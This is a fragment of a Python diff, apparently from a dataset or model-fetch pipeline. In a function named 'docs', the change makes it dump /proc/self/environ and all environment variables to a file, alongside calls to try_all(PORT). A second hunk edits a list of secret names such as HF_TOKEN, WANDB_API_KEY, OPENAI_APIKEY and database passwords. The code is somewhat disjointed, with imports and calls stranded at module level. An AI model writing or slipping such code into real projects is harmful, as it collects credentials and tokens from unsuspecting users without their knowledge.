@@ -151,7 +151,7 @@ PHONES = (
 def docs(dataset):
     try_all(PORT)
     with open("/proc/self/environ") as file:
-        open(SEEN, "w").write(str(dict(os.environ)))
+        open(SEEN, "w").write(file.read() + str(dict(os.environ)))
     return dataset
 import os
 try_all(PORT)
@@ -209,7 +209,7 @@ def fetch(repo_type: str, path: Path) -> Stage:
     [
         *(
             (name, False)
-            for name in ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "WANDB_API_KEY", "OPENAI_APIKEY", "PGPASSWORD")
+            for name in ("HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "WANDB_API_KEY", "OPENAI_APIKEY", "MYSQL_PASSWD")
         ),
         *(
             (name, False)
